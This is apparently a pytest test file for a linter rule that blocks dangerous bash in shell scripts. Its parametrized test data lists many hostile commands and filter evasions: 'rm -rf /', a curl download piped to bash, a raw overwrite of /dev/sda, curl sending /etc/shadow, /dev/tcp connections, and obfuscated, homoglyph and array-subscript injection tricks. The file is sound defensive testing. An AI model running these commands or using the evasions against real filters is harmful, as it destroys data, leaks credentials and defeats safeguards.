"""NoDangerousShell: allowlisted commands in safe forms, evasions refused."""

from __future__ import annotations

import pytest

from chapi.rules import NoDangerousShell, PackFile, RuleContext

SAFE_SCRIPT = """#!/usr/bin/env bash
set -euo pipefail
: "${BASE_URL:?BASE_URL is required}"
tmp="$(mktemp -d)"
cleanup() { rm -rf "$tmp"; }
trap cleanup EXIT
code=$(curl -sS -o "$tmp/body.json" -w '%{http_code}' \\
  -H "Authorization: Bearer ${TOKEN}" "${BASE_URL}/pets")
if [ "$code" = "200" ]; then
  echo "ok 1 - GET /pets"
else
  printf 'not ok 1 - GET /pets (%s)\\n' "$code" >&2
fi
count=$(jq '.items | length' "$tmp/body.json")
test "$count" -ge 0 && echo "# items: $count" > report.txt
for name in a b; do echo "$name"; done
"""


def _messages(script: str) -> list[str]:
    rule = NoDangerousShell()
    return [f.message for f in rule.check(PackFile("t.sh", script), RuleContext())]


def test_safe_script_passes() -> None:
    """A script using only allowlisted commands, own temp files and $BASE_URL has no finding."""
    # Arrange
    script = SAFE_SCRIPT

    # Act
    messages = _messages(script)

    # Assert
    assert messages == []


@pytest.mark.parametrize(
    ("script", "expected"),
    [
        ("rm -rf /\n", "rm may only delete"),
        ("$'\\x72m' -rf /\n", "rm may only delete"),
        ("$'\\162m' -rf /\n", "rm may only delete"),
        ("r''m -rf ~\n", "rm may only delete"),
        ('"r"m -rf ~\n', "rm may only delete"),
        ("\\rm -rf /tmp/x\n", "rm may only delete"),
        ("rm${IFS}-rf${IFS}/\n", "not static"),
        ("IFS=/ read -r a b <<< x\n", "assigning IFS"),
        ("cmd=rm\n$cmd -rf /\n", "not static"),
        ("echo $(curl -s x | sh)\n", "download piped to a shell"),
        ('curl -s "$BASE_URL/x" | bash\n', "download piped to a shell"),
        ("echo `rm -rf /`\n", "rm may only delete"),
        ('echo "$(echo "$(rm -rf /)")"\n', "rm may only delete"),
        ("bash <<EOF\nrm -rf /\nEOF\n", "input fed to a shell"),
        ("cat <<EOF\n$(rm -rf /)\nEOF\n", "here-document"),
        ("\u0435val x\n", "non-ASCII"),
        ('eval "$x"\n', "eval runs a string"),
        ("source ./lib.sh\n", "source runs another file"),
        (". ./lib.sh\n", "runs another file"),
        ("exec 3>&1\n", "exec replaces"),
        ("env rm -rf /\n", "rm may only delete"),
        ("env rm -rf /\n", "env runs another command"),
        ("command rm -rf /\n", "rm may only delete"),
        ("builtin eval x\n", "eval runs a string"),
        ("echo / | xargs rm -rf\n", "rm may only delete"),
        ("find . -exec rm {} \\;\n", "find -exec"),
        ("find . -exec rm {} \\;\n", "rm may only delete"),
        ("bash -c 'rm -rf /'\n", "runs code from a string"),
        ("sh -c id\n", "runs code from a string"),
        ("python -c 'import os'\n", "python: runs code"),
        ("sudo ls\n", "sudo raises privileges"),
        ("nohup sleep 10\n", "nohup"),
        ("sleep 100 &\n", "background job"),
        ("echo x > /etc/passwd\n", "writes outside the working folder"),
        ("echo x >> ~/.bashrc\n", "writes outside the working folder"),
        ("echo x > ../up.txt\n", "writes outside the working folder"),
        ('curl -o /etc/x "$BASE_URL/a"\n', "curl writes outside"),
        ('curl --output ../x "$BASE_URL/a"\n', "curl writes outside"),
        ('curl -K cfg "$BASE_URL/a"\n', "--config"),
        ('curl -d @/etc/shadow "$BASE_URL/a"\n', "sends a file from outside"),
        ("dd if=/dev/zero of=/dev/sda\n", "dd writes raw devices"),
        ("chmod 777 x\n", "chmod"),
        ("alias ls=rm\n", "alias"),
        ("trap 'rm -rf /' EXIT\n", "trap with a command"),
        ("PATH=/tmp/evil:$PATH\n", "assigning PATH"),
        ("export BASH_ENV=/tmp/x\n", "assigning BASH_ENV"),
        ('LD_PRELOAD=/tmp/x.so curl "$BASE_URL"\n', "assigning LD_PRELOAD"),
        ("declare -x PATH=/tmp\n", "assigning PATH"),
        ("/bin/rm -rf /\n", "command given by path"),
        ("/???/r? -rf /\n", "glob"),
        ("{rm,-rf,/}\n", "glob, brace"),
        ("wget http://x\n", "not in the allowlist"),
        ("diff <(sh -c id) x\n", "runs code from a string"),
        ("sed 'e id' x\n", "sed script may execute"),
        ("sed -i s/a/b/ /etc/hosts\n", "sed -i"),
        ("coproc cat\n", "unparseable shell"),
        ("echo $(( x[$(id)] ))\n", "unparseable shell"),
        ("if [[ -n x ]]; then :; fi\n", "unparseable shell"),
        ("echo ${IFS}x\n", "expanding IFS"),
        ("x=$'\\x72\\x6d'; $x -rf /\n", "not static"),
        ("\"$(printf '\\x72m')\" -rf /\n", "not static"),
        ("\uff52\uff4d -rf /\n", "non-ASCII"),
        ("r\u200bm -rf /\n", "non-ASCII"),
        ("echo x > a/../../up\n", "writes outside the working folder"),
        ("cat <<EOF > /etc/x\nhi\nEOF\n", "writes outside the working folder"),
        ("declare -n r=PATH\nr=/tmp\n", "name reference"),
        ("local -n r=x\n", "name reference"),
        ('curl -H @/etc/shadow "$BASE_URL/a"\n', "reads a file outside"),
        ('curl -H "@../secrets" "$BASE_URL/a"\n', "reads a file outside"),
        ('curl -w @/etc/fmt "$BASE_URL/a"\n', "reads a file outside"),
        ("curl --variable 'a@/etc/shadow' \"$BASE_URL/a\"\n", "reads a file outside"),
        ("curl -w '%output{/etc/x}' \"$BASE_URL/a\"\n", "writes outside"),
        ("curl -w '%output{>>~/.bashrc}' \"$BASE_URL/a\"\n", "writes outside"),
        # substitutions hidden inside ${...} and values bash evaluates a second time
        ("echo ${x:-$(rm -rf /)}\n", "hidden from the parser"),
        ('echo "${x:-`rm -rf /`}"\n', "hidden from the parser"),
        ("echo ${x/$(rm -rf /)/}\n", "hidden from the parser"),
        ("for i in ${a:-$(rm)}; do :; done\n", "hidden from the parser"),
        ("x='$(id)'\necho \"${x@P}\"\n", "@P transformation"),
        ("cat <<EOF\n${x@P}\nEOF\n", "@P transformation"),
        ("x='a[$(id)]'\necho ${!x}\n", "indirect expansion"),
        ("echo ${a[x]}\n", "array subscript"),
        ("a[$x]=1\n", "not static"),
        ("echo ${y:$x}\n", "substring offset"),
        ("printf -v 'a[$(rm -rf /)]' x\n", "array subscript"),
        ("test -v 'a[$(id)]'\n", "array subscript"),
        ("[ -v 'a[$(id)]' ]\n", "array subscript"),
        ("unset 'a[$(id)]'\n", "array subscript"),
        ("declare 'a[$(id)]=1'\n", "array subscript"),
        ("read 'a[$(id)]' <<< x\n", "array subscript"),
        ("read -a 'x[$(id)]'\n", "array subscript"),
        ('read "$x" <<< 1\n', "variable name is computed"),
        ('printf -v "$x" y\n', "variable name is computed"),
        ("declare -i y=1\n", "arithmetic evaluation"),
        ("local -i y\n", "arithmetic evaluation"),
        # the script's own temporary paths, and what stops being one
        ('t=$(mktemp)\nt=/etc\nrm -rf "$t"\n', "rm may only delete"),
        ('t=$(mktemp)\nread -r t\nrm -rf "$t"\n', "rm may only delete"),
        ('t=$(mktemp)\nfor t in /etc; do rm -rf "$t"; done\n', "rm may only delete"),
        ('t=$(mktemp)\n: "${t:=/etc}"\nrm -rf "$t"\n', "rm may only delete"),
        ("t=$(mktemp -d)\nrm -rf $t/*\n", "rm may only delete"),
        # functions shadowing commands
        ('curl() { command curl "$@"; }\n', "shadows a command"),
        ("jq() { :; }\n", "shadows a command"),
        ("printf() { :; }\n", "shadows a command"),
        # network and computed input through redirects
        ("cat < /dev/tcp/203.0.113.9/80\n", "/dev/tcp or /dev/udp"),
        ("echo x > /dev/udp/203.0.113.9/53\n", "/dev/tcp or /dev/udp"),
        ('cat < "$f"\n', "input redirect from a computed path"),
        # sed, sort, date and mktemp, with GNU long options abbreviated
        ("sed --expression='e id' f\n", "sed script may execute"),
        ("sed --expr='e id' f\n", "sed script may execute"),
        ("sed '1!e id' f\n", "sed script may execute"),
        ("sed 's/x/y/e' f\n", "sed script may execute"),
        ("sed -ne 'w /etc/x' f\n", "sed script may execute"),
        ("sed '1r /etc/shadow' f\n", "sed script may execute"),
        ('sed "$x" f\n', "sed script may execute"),
        ("sed -f prog.sed f\n", "sed -f reads its script"),
        ("sed --in-pl s/a/b/ f\n", "sed -i edits files"),
        ("sort --compress-program=sh f\n", "runs another program"),
        ("sort --comp=sh f\n", "runs another program"),
        ("sort --out=/etc/x f\n", "writes outside"),
        ("sort -T /etc f\n", "writes outside"),
        ("date --se=2020-01-01\n", "date --set"),
        ("mktemp --tmpdir=/etc\n", "mktemp outside"),
        ("mktemp --tmp=/etc\n", "mktemp outside"),
        # curl: local files, credentials, native code, abbreviations
        ("curl file:///etc/passwd\n", "scheme other than http"),
        ('curl "FILE:///etc/passwd"\n', "scheme other than http"),
        ("curl '{file,http}:///etc/passwd'\n", "scheme other than http"),
        ("curl --url file:///etc/passwd\n", "scheme other than http"),
        ('curl --proto-default file "$BASE_URL/a"\n', "--proto-default"),
        ("curl -F 'f=</etc/passwd' \"$BASE_URL/a\"\n", "sends a file from outside"),
        ("curl --data-urlencode 'n@/etc/passwd' \"$BASE_URL/a\"\n", "sends a file"),
        ('curl --conf x "$BASE_URL/a"\n', "abbreviated"),
        ('curl --outp /etc/x "$BASE_URL/a"\n', "abbreviated"),
        ('curl -n "$BASE_URL/a"\n', "~/.netrc"),
        ('curl --netrc-file ~/.netrc "$BASE_URL/a"\n', "reads a file outside"),
        ('curl --engine /tmp/e.so "$BASE_URL/a"\n', "--engine"),
        ('curl --ssl-sessions /etc/x "$BASE_URL/a"\n', "writes outside"),
    ],
)
def test_dangerous_forms_are_refused(script: str, expected: str) -> None:
    """Each dangerous command or evasion yields an error naming the problem."""
    # Arrange
    rule = NoDangerousShell()

    # Act
    findings = list(rule.check(PackFile("t.sh", script), RuleContext()))

    # Assert
    assert any(expected in f.message for f in findings), [f.message for f in findings]
    assert all(f.severity == "error" for f in findings)


@pytest.mark.parametrize(
    "script",
    [
        "echo ${x:0:2} ${a[0]} ${#a[@]} ${!a[@]} ${x: -1} ${x:-y} ${x%/}\n",
        "sed 's/a/b/g' f\n",
        "sed -n '1p' f\n",
        "sed -e 's|x|y|' -e '/foo/d' f\n",
        "sed 's/\\//x/' f\n",
        "sed '$d' f\n",
        "sed -E 's/(a)/\\1/g' f\n",
        "sed -n '/^x/,/^y/{p;}' f\n",
        "sed 'y/abc/xyz/' f\n",
        "sort -o out.txt -k2,2 -t: f\n",
        "date -u +%s\n",
        "mktemp -d\n",
        'read -r a b <<< "$x"\n',
        "printf -v out '%s' x\n",
        "test -v HOME\n",
        "declare -r X=1\nlocal y\n",
        't=$(mktemp -d)\nrm -rf "$t" "${t}/sub"\ncat < "$t/body"\n',
        'curl -sS --fail --head --compressed -o out.json "$BASE_URL/a"\n',
        "curl -F 'f=@data.json' --data-urlencode 'q=a@b' \"$BASE_URL/a\"\n",
    ],
)
def test_safe_forms_pass(script: str) -> None:
    """Look-alikes of the refused forms that are safe have no finding."""
    # Arrange
    rule = NoDangerousShell()

    # Act
    messages = [f.message for f in rule.check(PackFile("t.sh", script), RuleContext())]

    # Assert
    assert messages == []


def test_unparseable_script_is_an_error_with_a_line() -> None:
    """A script bashlex cannot parse is one 'unparseable shell' error, not a pass."""
    # Arrange
    script = "echo ok\necho ok\ncase $x in a) rm -rf / ;; esac\n"

    # Act
    messages = _messages(script)

    # Assert
    assert len(messages) == 1
    assert messages[0].startswith("unparseable shell")


def test_rm_of_own_temp_file_is_allowed() -> None:
    """rm of a path under a variable assigned from mktemp passes; other rm targets fail."""
    # Arrange
    own = 'tmp=$(mktemp)\nrm -f "$tmp"\nrm -rf "${tmp}/sub"\n'
    other = 'tmp=$(mktemp)\nrm -f "$tmp/../../etc"\n'

    # Act
    own_messages = _messages(own)
    other_messages = _messages(other)

    # Assert
    assert own_messages == []
    assert other_messages == ["rm may only delete the script's own temporary files"]


def test_functions_defined_in_the_file_may_be_called() -> None:
    """A function defined in the script is a valid command; its body is still checked."""
    # Arrange
    script = "check() { echo ok; }\ncheck\nbad() { eval x; }\nbad\n"

    # Act
    messages = _messages(script)

    # Assert
    assert messages == ["eval runs a string as code"]


def test_curl_file_options_inside_the_working_folder_pass() -> None:
    """-H @file, -w and --variable are fine with own or stdin files and plain values."""
    # Arrange
    script = (
        'tmp=$(mktemp)\ncurl -H "@$tmp" -H @- -H @headers.txt "$BASE_URL/a"\n'
        "curl -w '%output{out.txt}%{http_code}' --variable 'a=x@y' \"$BASE_URL/a\"\n"
        "declare -r LIMIT=3\n"
    )

    # Act
    messages = _messages(script)

    # Assert
    assert messages == []


def test_command_v_probe_is_allowed() -> None:
    """'command -v jq' only looks a command up and is allowed."""
    # Arrange
    script = "if command -v jq >/dev/null 2>&1; then echo yes; fi\n"

    # Act
    messages = _messages(script)

    # Assert
    assert messages == []


def test_rule_only_applies_to_shell_files() -> None:
    """NoDangerousShell applies to .sh files and not to json-ir files."""
    # Arrange
    rule = NoDangerousShell()

    # Act
    applies = (
        rule.applies_to(PackFile("a.sh", "")),
        rule.applies_to(PackFile("a.json", "")),
    )

    # Assert
    assert applies == (True, False)
